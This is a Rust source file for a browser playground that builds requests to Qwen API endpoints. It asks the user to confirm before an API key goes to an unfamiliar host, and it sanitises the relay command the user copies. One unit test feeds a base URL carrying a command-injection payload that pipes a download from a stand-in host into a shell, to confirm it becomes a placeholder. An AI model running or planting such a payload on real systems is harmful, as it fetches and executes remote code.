//! The playground's shared state and what is derived from it: the shaping request, the shaped
//! request, and the request as it will leave the browser.

use leptos::prelude::*;
use qwen_route::catalog::{self, CorsPolicy, KeyClass};
use qwen_route::diagnose::RequestSummary;
use qwen_route::shape::{shape, ShapeRequest, Shaped};
use serde_json::Value;

use crate::form::{FieldError, Form, SANDBOX_SURFACE};
use crate::key::{KeyCell, SealedKey};
use crate::run::{Run, RunContext};
use crate::transport::Outgoing;
use crate::trust::{link_set_endpoint, parse_target, EndpointSource, Gate, Trust};

/// The default relay address (`qwen-route relay`).
pub const RELAY_DEFAULT: &str = "http://127.0.0.1:8787";

/// A send the user must confirm: the origin named in the question, and what runs on "yes".
#[derive(Clone, Copy)]
pub struct Consent {
    /// The origin the question names (`None`: nothing is being asked).
    pub asking: RwSignal<Option<String>>,
    /// Why the last send was refused outright (an unusable base URL).
    pub refused: RwSignal<Option<String>>,
    action: StoredValue<Option<Box<dyn FnOnce()>>, LocalStorage>,
}

impl Consent {
    fn new() -> Consent {
        Consent {
            asking: RwSignal::new(None),
            refused: RwSignal::new(None),
            action: StoredValue::new_local(None),
        }
    }

    /// "Yes, send my key there": runs what was waiting.
    pub fn accept(&self) {
        let action = self.action.try_update_value(Option::take).flatten();
        self.asking.set(None);
        if let Some(a) = action {
            a();
        }
    }

    /// "No": nothing is sent.
    pub fn decline(&self) {
        self.action.set_value(None);
        self.asking.set(None);
    }
}

/// One request a send would make: which surface's rules, which URL (before the relay), and
/// whether it carries the user's key.
#[derive(Debug, Clone, PartialEq)]
pub struct GuardTarget {
    /// Catalog surface id.
    pub surface: String,
    /// The shaped URL (the relay counts as the host it forwards to).
    pub url: String,
    /// Whether a key of the user's goes with it.
    pub key_set: bool,
}

/// Shared state, provided as context.
#[derive(Clone, Copy)]
pub struct Ctx {
    /// The request builder.
    pub form: RwSignal<Form>,
    /// The API key: memory only, never stored, logged, shared or exported unless asked.
    pub key: KeyCell,
    /// Send through `qwen-route relay`.
    pub relay_on: RwSignal<bool>,
    /// The relay's address.
    pub relay_url: RwSignal<String>,
    /// The main run.
    pub run: Run,
    /// Where the base URL came from.
    pub endpoint_source: RwSignal<EndpointSource>,
    /// The endpoint a share link set, while its banner shows.
    pub link_endpoint: RwSignal<Option<String>>,
    /// Hosts the user typed or confirmed in this page session (memory only).
    pub trust: RwSignal<Trust>,
    /// The confirmation asked before a key meets a new host.
    pub consent: Consent,
    /// The form shaped for the key's class: computed once per change and shared by the wire
    /// view, the pre-flight, the send bar and the exports.
    pub shaped: Memo<Result<Shaped, String>>,
}

/// The shaping request for the form and the key's class (the Sandbox without a key uses the
/// simulator's pay-as-you-go sample key).
pub fn shape_request(
    form: &Form,
    key_class: Option<KeyClass>,
) -> Result<ShapeRequest, Vec<FieldError>> {
    let mut req = form.to_shape_request()?;
    req.key_class =
        if form.is_sandbox() && key_class.is_none() { Some(KeyClass::Standard) } else { key_class };
    Ok(req)
}

/// The shaped request, or why it cannot be shaped.
pub fn shaped(form: &Form, key_class: Option<KeyClass>) -> Result<Shaped, String> {
    let req = shape_request(form, key_class).map_err(|errs| {
        errs.iter().map(|e| format!("{}: {}", e.field, e.message)).collect::<Vec<_>>().join("; ")
    })?;
    shape(&req).map_err(|e| e.to_string())
}

/// The URL as it leaves the browser: through the relay when it is on (`relay/host[:port]/path`,
/// with the host as the browser parses it).
pub fn effective_url(url: &str, relay_on: bool, relay: &str) -> String {
    match (relay_on, parse_target(url)) {
        (true, Ok(t)) => format!("{}/{}{}", relay.trim_end_matches('/'), t.authority, t.rest),
        _ => url.to_string(),
    }
}

/// Whether a URL authority is plain enough to paste into a shell command (host, port, brackets).
fn plain_authority(a: &str) -> bool {
    !a.is_empty()
        && a.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'))
}

/// The relay command that forwards to this URL's host. `--allow-host` names the host only when
/// the user typed or confirmed it (`trusted`): a link must not get the user to open the relay to
/// a host of its choosing. Anything that is not a plain host:port also becomes a placeholder, so
/// a crafted base URL cannot put shell syntax into a command the user copies.
pub fn relay_command(url: &str, origin: &str, trusted: bool) -> String {
    let mut cmd = "qwen-route relay".to_string();
    if let Ok(t) = parse_target(url) {
        let host = t.authority.rsplit_once(':').map_or(t.authority.as_str(), |(h, _)| h);
        let known = catalog::surfaces().iter().any(|s| s.base_url.contains(&format!("://{host}/")));
        if !known {
            if trusted && plain_authority(&t.authority) {
                cmd.push_str(&format!(" --allow-host {}", t.origin));
            } else {
                cmd.push_str(" --allow-host <host:port>");
            }
        }
    }
    let plain_origin = origin
        .split_once("://")
        .is_some_and(|(s, a)| matches!(s, "http" | "https") && plain_authority(a));
    if plain_origin && origin != "http://127.0.0.1:8090" && origin != "http://localhost:8090" {
        cmd.push_str(&format!(" --allow-origin {origin}"));
    }
    cmd
}

impl Ctx {
    /// Fresh state for the page, with the form a share link carried (if any).
    pub fn new(form: Form, from_link: bool) -> Ctx {
        let link = if from_link { link_set_endpoint(&form) } else { None };
        let source = match (&link, form.base_url.trim().is_empty()) {
            (_, true) => EndpointSource::Catalog,
            (Some(_), false) => EndpointSource::Link,
            (None, false) => EndpointSource::Catalog,
        };
        let form = RwSignal::new(form);
        let key = KeyCell::new();
        let shaped = Memo::new(move |_| {
            let class = key.class();
            form.with(|f| shaped(f, class))
        });
        Ctx {
            form,
            key,
            shaped,
            relay_on: RwSignal::new(false),
            relay_url: RwSignal::new(RELAY_DEFAULT.to_string()),
            run: Run::new(),
            endpoint_source: RwSignal::new(source),
            link_endpoint: RwSignal::new(link),
            trust: RwSignal::new(Trust::default()),
            consent: Consent::new(),
        }
    }

    /// The key's class for shaping (tracked).
    pub fn key_class(&self) -> Option<KeyClass> {
        self.key.class()
    }

    /// The user typed a new base URL.
    pub fn base_url_typed(&self, value: String) {
        let before = self.form.with_untracked(|f| f.base_url.clone());
        self.trust.update(|t| t.typed(&before, &value));
        let new_origin = parse_target(value.trim()).ok().map(|t| t.origin);
        let link_origin = self
            .link_endpoint
            .with_untracked(|l| l.as_deref().and_then(|u| parse_target(u).ok()).map(|t| t.origin));
        if link_origin.is_some() && link_origin != new_origin {
            self.link_endpoint.set(None);
        }
        self.endpoint_source.set(if value.trim().is_empty() {
            EndpointSource::Catalog
        } else if self.link_endpoint.with_untracked(Option::is_some) {
            EndpointSource::Link
        } else {
            EndpointSource::Typed
        });
        self.form.update(|f| f.base_url = value);
    }

    /// Use the surface's catalog base URL (the banner's first action, and a surface change).
    pub fn use_catalog_endpoint(&self) {
        self.link_endpoint.set(None);
        self.endpoint_source.set(EndpointSource::Catalog);
        self.form.update(|f| f.base_url.clear());
    }

    /// Keep the endpoint a link set: the user confirms its host by name.
    pub fn keep_link_endpoint(&self) {
        if let Some(url) = self.link_endpoint.get_untracked() {
            if let Ok(t) = parse_target(&url) {
                self.trust.update(|tr| tr.confirm(&t.origin));
            }
        }
        self.link_endpoint.set(None);
    }

    /// A server restored from Memory (an imported file may have filled it: its host is not
    /// trusted until typed or confirmed).
    pub fn use_saved_server(&self, surface: String, base_url: String) {
        self.link_endpoint.set(None);
        self.endpoint_source.set(if base_url.trim().is_empty() {
            EndpointSource::Catalog
        } else {
            EndpointSource::Memory
        });
        self.form.update(|f| {
            f.surface = surface;
            f.base_url = base_url;
        });
    }

    /// Run `action` once every target may carry its key: targets whose host the user has not
    /// typed or confirmed are asked about by name, one at a time; declining sends nothing.
    pub fn guard(&self, targets: Vec<GuardTarget>, action: Box<dyn FnOnce()>) {
        self.consent.refused.set(None);
        let trust = self.trust.get_untracked();
        for t in &targets {
            match trust.gate(&t.surface, &t.url, t.key_set) {
                Gate::Go => {}
                Gate::Refuse(e) => {
                    self.consent.refused.set(Some(e.to_string()));
                    return;
                }
                Gate::Ask(origin) => {
                    let ctx = *self;
                    let asked = origin.clone();
                    self.consent.action.set_value(Some(Box::new(move || {
                        ctx.trust.update(|tr| tr.confirm(&asked));
                        ctx.guard(targets, action);
                    })));
                    self.consent.asking.set(Some(origin));
                    return;
                }
            }
        }
        action();
    }

    /// Where a shaped URL is sent from this page: through the relay when it is on, or, for the
    /// Sandbox, the path the in-page simulator answers.
    pub fn destination(&self, form: &Form, url: &str) -> (String, Option<String>) {
        self.destination_with(form, url, self.relay_on.get_untracked())
    }

    /// [`Ctx::destination`] with a relay switch of its own (Compare's side B has one).
    pub fn destination_with(
        &self,
        form: &Form,
        url: &str,
        relay_on: bool,
    ) -> (String, Option<String>) {
        if form.is_sandbox() {
            let path = parse_target(url).map_or("/".to_string(), |t| t.rest);
            (url.to_string(), Some(format!("/{SANDBOX_SURFACE}{path}")))
        } else {
            (effective_url(url, relay_on, &self.relay_url.get_untracked()), None)
        }
    }

    /// The target a request to `url` is for, as the guard takes it (`None` for the Sandbox,
    /// which sends nothing anywhere).
    pub fn target(&self, form: &Form, url: &str, key: &SealedKey) -> Option<GuardTarget> {
        (!form.is_sandbox()).then(|| GuardTarget {
            surface: form.shape_surface().to_string(),
            url: url.to_string(),
            key_set: !key.is_empty(),
        })
    }

    /// What `send` needs: the outgoing request, the run context and the Sandbox path, and the
    /// URL before the relay (what the guard checks).
    pub fn prepare(
        &self,
        form: &Form,
        key: &KeyCell,
    ) -> Result<(Outgoing, RunContext, Option<String>, String), String> {
        self.prepare_with(form, key, self.relay_on.get_untracked())
    }

    /// [`Ctx::prepare`] with a relay switch of its own.
    pub fn prepare_with(
        &self,
        form: &Form,
        key: &KeyCell,
        relay_on: bool,
    ) -> Result<(Outgoing, RunContext, Option<String>, String), String> {
        let class = key.class();
        let s = shaped(form, class)?;
        let (url, sandbox_path) = self.destination_with(form, &s.request.url, relay_on);
        let out = Outgoing {
            url,
            method: s.request.method.to_string(),
            headers: s.request.headers.iter().map(|(k, v)| (k.clone(), v.clone())).collect(),
            body: if s.request.method == "GET" {
                String::new()
            } else {
                s.request.body.to_string()
            },
        };
        let schema = s.request.body["response_format"]["json_schema"]["schema"].clone();
        let expect_json = !s.request.body["response_format"].is_null();
        let ctx = RunContext {
            surface: s.effective.surface.to_string(),
            summary: RequestSummary {
                model: Some(s.effective.model.clone()),
                stream: Some(s.effective.stream),
                thinking: s.effective.thinking,
                key_class: shape_request(form, class).ok().and_then(|r| r.key_class),
                key_region: key.sim_region(),
                base_url: Some(s.effective.base_url.clone()),
                origin: None,
            },
            schema: (!schema.is_null()).then_some(schema).filter(|s: &Value| s.is_object()),
            expect_json,
            cors_refused: !form.is_sandbox()
                && !relay_on
                && catalog::surface(s.effective.surface)
                    .is_some_and(|x| x.cors != CorsPolicy::Permissive),
        };
        Ok((out, ctx, sandbox_path, s.request.url.clone()))
    }

    /// Send the current request (after the guard, when the key would meet a new host).
    pub fn send(&self) {
        let form = self.form.get_untracked();
        // The Send button is disabled while the request cannot be shaped.
        let Ok((out, rc, sandbox, url)) = self.prepare(&form, &self.key) else { return };
        let key = self.key.sealed_for(&form);
        let run = self.run;
        let targets = self.target(&form, &url, &key).into_iter().collect();
        self.guard(targets, Box::new(move || run.send(out, key, rc, sandbox)));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relay_rewrites_and_commands() {
        assert_eq!(
            effective_url(
                "https://dashscope-intl.aliyuncs.com/compatible-mode/v1/chat/completions",
                true,
                "http://127.0.0.1:8787/"
            ),
            "http://127.0.0.1:8787/dashscope-intl.aliyuncs.com/compatible-mode/v1/chat/completions"
        );
        assert_eq!(effective_url("http://x/y", false, RELAY_DEFAULT), "http://x/y");
        assert_eq!(
            relay_command(
                "https://dashscope-intl.aliyuncs.com/compatible-mode/v1/chat/completions",
                "http://127.0.0.1:8090",
                false
            ),
            "qwen-route relay"
        );
        assert_eq!(
            relay_command("http://127.0.0.1:8788/dashscope-intl/compatible-mode/v1/chat/completions", "http://localhost:5000", true),
            "qwen-route relay --allow-host http://127.0.0.1:8788 --allow-origin http://localhost:5000"
        );
    }

    #[test]
    fn relay_commands_name_only_hosts_the_user_chose() {
        let url = "http://127.0.0.1:9999/compatible-mode/v1/chat/completions";
        assert_eq!(
            relay_command(url, "http://127.0.0.1:8090", false),
            "qwen-route relay --allow-host <host:port>"
        );
        assert_eq!(
            relay_command(url, "http://127.0.0.1:8090", true),
            "qwen-route relay --allow-host http://127.0.0.1:9999"
        );
    }

    #[test]
    fn relay_commands_never_carry_shell_syntax() {
        let c = relay_command(
            "https://x$(curl -s evil.sh|sh)/v1/chat/completions",
            "http://127.0.0.1:8090",
            true,
        );
        assert_eq!(c, "qwen-route relay --allow-host <host:port>");
        let c = relay_command("http://[::1]:8000/v1", "http://a;b", true);
        assert_eq!(c, "qwen-route relay --allow-host http://[::1]:8000");
    }

    #[test]
    fn the_page_and_the_core_classify_keys_alike() {
        assert_eq!(KeyClass::of_key("sk-sp-1"), Some(KeyClass::Plan));
        assert_eq!(KeyClass::of_key("st-1"), Some(KeyClass::Temporary));
        let f = Form { surface: "dashscope-intl".into(), ..Form::default() };
        let req = shape_request(&f, KeyClass::of_key("st-abc")).unwrap();
        assert_eq!(req.key_class, Some(KeyClass::Temporary));
        let sandbox = shape_request(&Form::default(), None).unwrap();
        assert_eq!(sandbox.key_class, Some(KeyClass::Standard));
    }
}
